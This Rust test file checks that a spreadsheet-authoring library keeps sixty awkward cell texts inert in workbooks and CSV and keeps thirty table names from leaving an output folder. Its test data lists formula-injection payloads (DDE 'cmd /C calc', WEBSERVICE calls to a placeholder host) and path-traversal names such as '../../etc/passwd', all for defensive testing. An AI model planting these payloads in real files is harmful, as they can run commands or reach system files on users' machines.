//! Sixty texts that a spreadsheet would rather take for something else: in a workbook and in CSV each is a text that acts on nothing, and
//! comes back exactly or is refused with its place.

use crate::samples::live;
use tieout_authoring::{
    Book, Found, FoundCell, Sheet, book_of, read_folder, read_workbook, write_folder,
    write_workbook,
};

const TEXTS: [&str; 60] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.invalid\",\"click\")",
    "=WEBSERVICE(\"http://example.invalid/\"&A1)",
    "=IMPORTXML(\"http://example.invalid\",\"//a\")",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "=1",
    "=",
    "==",
    "+1",
    "+1+1",
    "+SUM(A1:A2)",
    "-1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "@SUM(1,1)",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "''",
    "'",
    "＝1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "%0A=1+1",
    "\"=1+1\"",
    "0001",
    "000",
    "1E5",
    "1e400",
    "1.0",
    "1.10",
    ".5",
    "1,000",
    "9007199254740993",
    "12345678901234567890",
    "NaN",
    "1/2",
    "1-2",
    "2027-01-01",
    "MAR1",
    "SEPT2",
    "TRUE",
    "#REF!",
    "a,b",
    "a\"b",
    "a\nb",
    "a\r\nb",
    "a;b",
    "<f>1+1</f>",
    "]]>&amp;",
    "_x0041_",
    "\u{202e}txt.exe",
    "a\u{1b}[2Jb",
    "a\u{7}b",
    "a\u{0}b",
];

fn book(text: &str) -> Book {
    Book {
        sheets: vec![Sheet {
            name: "Table x".to_owned(),
            columns: vec!["key", "value"],
            rows: vec![vec!["A".to_owned(), text.to_owned()]],
            notes: Vec::new(),
            choices: Vec::new(),
        }],
    }
}

fn value(found: &Found) -> FoundCell {
    found.sheets[0].rows[1][1].clone()
}

#[test]
fn sixty_texts_stay_texts_in_a_workbook() {
    let mut refused = Vec::new();
    for text in TEXTS {
        let Ok(bytes) = write_workbook(&book(text)) else {
            refused.push(text);
            continue;
        };
        match read_workbook(&bytes) {
            Ok(found) => assert_eq!(value(&found), FoundCell::Text(text.to_owned()), "{text:?}"),
            Err(_) => refused.push(text),
        }
    }
    // A control character has no place in a workbook's XML; nothing else is refused.
    let only_controls = |text: &&str| {
        text.chars()
            .any(|c| c.is_control() && !"\t\r\n".contains(c))
    };
    assert!(refused.iter().all(only_controls), "{refused:?}");
}

#[test]
fn sixty_texts_stay_texts_in_csv() {
    for text in TEXTS {
        let folder = tempfile::tempdir().unwrap();
        write_folder(&book(text), folder.path()).unwrap();
        let raw = std::fs::read_to_string(folder.path().join("Table x.csv")).unwrap();
        let mut reader = csv::ReaderBuilder::new()
            .flexible(true)
            .from_reader(raw.as_bytes());
        let cell = reader.records().next().unwrap().unwrap()[1].to_owned();
        let acts = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\0']);
        assert!(!acts, "{text:?} stands as {cell:?}");
        let found = read_folder(folder.path()).unwrap();
        assert_eq!(value(&found), FoundCell::Text(text.to_owned()), "{text:?}");
    }
}

/// Names that would lead a file elsewhere, or be no file.
const NAMES: [&str; 30] = [
    "../x",
    "../../etc/passwd",
    "..",
    ".",
    "/etc/passwd",
    "~/x",
    "a/b",
    "a/../b",
    "a\\b",
    "..\\x",
    "C:\\x",
    "C:x",
    "\\\\host\\share",
    "file:///etc/passwd",
    "a:b",
    "a*b",
    "a?b",
    "a[b]",
    "a'b",
    "a\"b",
    "a\nb",
    "a\tb",
    "a\u{7}b",
    " a",
    "a ",
    "A",
    "a#b",
    "\u{202e}b",
    "naïve",
    "a very long name of a table that no spreadsheet takes for a sheet",
];

#[test]
fn thirty_names_of_tables_never_leave_the_folder_and_come_back() {
    let golden = include_str!("../../../../golden/crosswalk/v2.json");
    let mut written = 0;
    for name in NAMES {
        let quoted = serde_json::Value::String(name.to_owned()).to_string();
        let text = golden.replace("\"department\"", &quoted);
        let Ok(book) = book_of(text.as_bytes(), &live("golden")) else {
            continue;
        };
        written += 1;
        let outer = tempfile::tempdir().unwrap();
        let folder = outer.path().join("inner");
        write_folder(&book, &folder).unwrap();
        let around: Vec<_> = std::fs::read_dir(outer.path()).unwrap().collect();
        assert_eq!(around.len(), 1, "{name:?} left the folder");
        let files = std::fs::read_dir(&folder).unwrap();
        for file in files.map(Result::unwrap) {
            assert!(
                file.file_type().unwrap().is_file(),
                "{name:?} made a folder"
            );
        }
        let back = read_folder(&folder).unwrap();
        assert_eq!(back.sheets.len(), book.sheets.len(), "{name:?}");
        let bytes = write_workbook(&book).unwrap();
        assert_eq!(
            read_workbook(&bytes).unwrap().sheets.len(),
            book.sheets.len()
        );
    }
    assert!(
        written > 0,
        "every name was refused: the table proves nothing"
    );
}
